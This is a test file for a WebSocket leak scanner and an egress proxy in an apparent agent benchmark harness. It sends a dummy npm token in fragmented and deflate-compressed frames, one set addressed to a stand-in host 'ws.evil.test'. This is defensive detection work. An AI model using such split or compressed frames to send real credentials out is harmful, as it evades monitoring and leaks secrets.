import { randomBytes } from 'node:crypto';
import { connect, createServer, type Server } from 'node:net';
import { constants, createDeflateRaw } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BenchmarkConfigSchema, type ResolvedConfig } from '../../config/schema.js';
import { outboundScan } from '../../pipeline/outbound-scan.js';
import { EgressProxy } from './egress-proxy.js';
import { WebSocketScan } from './websocket-scan.js';

const TOKEN = 'npm_0123456789abcdef01234567';
const cfg = BenchmarkConfigSchema.parse({
  name: 't',
  task: { prompt: 'p' },
  repo: '.',
  test_command: ['true'],
}) as unknown as ResolvedConfig;
const outbound = outboundScan(cfg, [{ kind: 'npm-token', token: TOKEN }]);
if (!outbound) throw new Error('the default presets give a scanner');

/** One client frame as RFC 6455 lays it out: masked with a random key. */
function frame(opcode: number, payload: Buffer, opts: { fin?: boolean; rsv1?: boolean } = {}): Buffer {
  const b0 = (opts.fin === false ? 0 : 0x80) | (opts.rsv1 ? 0x40 : 0) | opcode;
  const len = payload.length;
  const head =
    len < 126
      ? Buffer.from([b0, 0x80 | len])
      : len < 65536
        ? Buffer.concat([Buffer.from([b0, 0x80 | 126]), Buffer.from([len >> 8, len & 0xff])])
        : (() => {
            const b = Buffer.alloc(10);
            b[0] = b0;
            b[1] = 0x80 | 127;
            b.writeBigUInt64BE(BigInt(len), 2);
            return b;
          })();
  const key = randomBytes(4);
  const masked = Buffer.from(payload.map((c, i) => c ^ (key[i & 3] as number)));
  return Buffer.concat([head, key, masked]);
}

/** permessage-deflate with context takeover: each message compressed after the ones before, tail cut. */
async function deflateMessages(messages: string[]): Promise<Buffer[]> {
  const d = createDeflateRaw();
  const out: Buffer[] = [];
  d.on('data', (c: Buffer) => out.push(c));
  const compressed: Buffer[] = [];
  for (const m of messages) {
    await new Promise<void>((resolve) => {
      d.write(m);
      d.flush(constants.Z_SYNC_FLUSH, () => resolve());
    });
    const b = Buffer.concat(out.splice(0));
    compressed.push(b.subarray(0, b.length - 4));
  }
  d.close();
  return compressed;
}

const canaryIn = (scan: WebSocketScan) =>
  scan
    .end()
    .filter((l) => l.kind === 'canary')
    .map((l) => `${l.where} ${l.encoding}`);

describe('WebSocketScan', () => {
  it('unmasks a text frame, fed one byte at a time', () => {
    const ws = new WebSocketScan(outbound.scan);
    for (const b of frame(1, Buffer.from(`{"t":"${TOKEN}"}`))) ws.push(Buffer.from([b]));
    expect(canaryIn(ws)).toEqual(['websocket exact']);
  });

  it('reads a message cut into fragments with a ping between them, and a 64 KiB binary frame', () => {
    const ws = new WebSocketScan(outbound.scan);
    ws.push(frame(1, Buffer.from(`x=${TOKEN.slice(0, 9)}`), { fin: false }));
    ws.push(frame(9, Buffer.from('ping')));
    ws.push(frame(0, Buffer.from(TOKEN.slice(9, 20)), { fin: false }));
    ws.push(frame(0, Buffer.from(TOKEN.slice(20)), { fin: true }));
    expect(canaryIn(ws)).toEqual(['websocket exact']);
    const big = new WebSocketScan(outbound.scan);
    const payload = Buffer.concat([randomBytes(70_000), Buffer.from(Buffer.from(TOKEN).toString('hex'))]);
    big.push(frame(2, payload));
    expect(canaryIn(big)).toEqual(['websocket hex']);
  });

  it('inflates permessage-deflate messages with the window of the messages before them', async () => {
    const text = `{"report":"usage","token":"${TOKEN}","pad":"${'a'.repeat(40)}"}`;
    const [first, second] = await deflateMessages([text, text]);
    // The second message is mostly a back-reference into the first: only the window makes it readable.
    const ws = new WebSocketScan(outbound.scan);
    ws.push(frame(1, first as Buffer, { rsv1: true }));
    const alone = new WebSocketScan(outbound.scan);
    alone.push(frame(1, Buffer.from('hello'), { rsv1: false }));
    expect(canaryIn(alone)).toEqual([]);
    const secondOnly = new WebSocketScan(outbound.scan);
    ws.push(frame(1, second as Buffer, { rsv1: true }));
    expect(canaryIn(ws)).toEqual(['websocket exact']);
    expect((second as Buffer).includes(Buffer.from(TOKEN))).toBe(false);
    secondOnly.push(frame(1, second as Buffer, { rsv1: true }));
    expect(canaryIn(secondOnly)).toEqual([]);
  });

  it('stops at bytes that are not frames, saying so', () => {
    const ws = new WebSocketScan(outbound.scan);
    ws.push(Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'));
    ws.end();
    expect(ws.stream.incomplete).toMatch(/reserved/);
  });
});

describe('the proxy reads what a WebSocket client sends after an upgrade', () => {
  let server: Server;
  let port = 0;
  beforeAll(async () => {
    // A server that accepts any upgrade and reads (and drops) whatever follows.
    server = createServer((socket) => {
      socket.once('data', () =>
        socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n'),
      );
      socket.on('data', () => {});
      socket.on('error', () => {});
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const address = server.address();
    port = typeof address === 'object' && address ? address.port : 0;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it('finds a canary in masked, compressed frames to an allowed host', async () => {
    const proxy = new EgressProxy({
      allow: ['ws.allowed.test'],
      hosts: { 'ws.allowed.test': `127.0.0.1:${port}` },
      tcpPort: 0,
      outbound,
    });
    const proxyPort = (await proxy.start()).tcpPort ?? 0;
    const [message] = await deflateMessages([`{"npmrc":"//r/:_authToken=${TOKEN}"}`]);
    await new Promise<void>((resolve) => {
      const socket = connect(proxyPort, '127.0.0.1');
      socket.on('error', () => resolve());
      socket.on('close', () => resolve());
      socket.on('connect', () =>
        socket.write(
          'GET http://ws.allowed.test/socket HTTP/1.1\r\nHost: ws.allowed.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n',
        ),
      );
      socket.once('data', () => {
        socket.write(frame(1, message as Buffer, { rsv1: true }));
        socket.write(frame(8, Buffer.from([0x03, 0xe8])));
        setTimeout(() => socket.end(), 200);
      });
    });
    await new Promise((r) => setTimeout(r, 100));
    const records = await proxy.stop();
    expect(records.map((r) => (r.leaks ?? []).map((l) => `${l.where} ${l.detector} ${l.encoding}`))).toEqual([
      ['websocket canary-npm-token exact'],
    ]);
  });
});

describe('a refused WebSocket upgrade', () => {
  it('reads the frames a client sent without waiting for the answer', async () => {
    const proxy = new EgressProxy({ allow: [], tcpPort: 0, outbound });
    const proxyPort = (await proxy.start()).tcpPort ?? 0;
    const head =
      'GET http://ws.evil.test/socket HTTP/1.1\r\nHost: ws.evil.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n';
    const answer = await new Promise<string>((resolve) => {
      const socket = connect(proxyPort, '127.0.0.1');
      let got = '';
      socket.on('data', (d) => {
        got += d.toString();
      });
      socket.on('error', () => resolve(got));
      socket.on('close', () => resolve(got));
      socket.on('connect', () => {
        socket.write(
          Buffer.concat([
            Buffer.from(head),
            frame(1, Buffer.from(`k=${TOKEN.slice(0, 14)}`), { fin: false }),
          ]),
        );
        setTimeout(() => socket.write(frame(0, Buffer.from(TOKEN.slice(14)))), 50);
      });
    });
    expect(answer).toMatch(/^HTTP\/1\.1 403/);
    const records = await proxy.stop();
    expect(records.map((r) => [r.decision, (r.leaks ?? []).map((l) => `${l.where} ${l.detector}`)])).toEqual([
      ['denied', ['websocket canary-npm-token']],
    ]);
  });
});
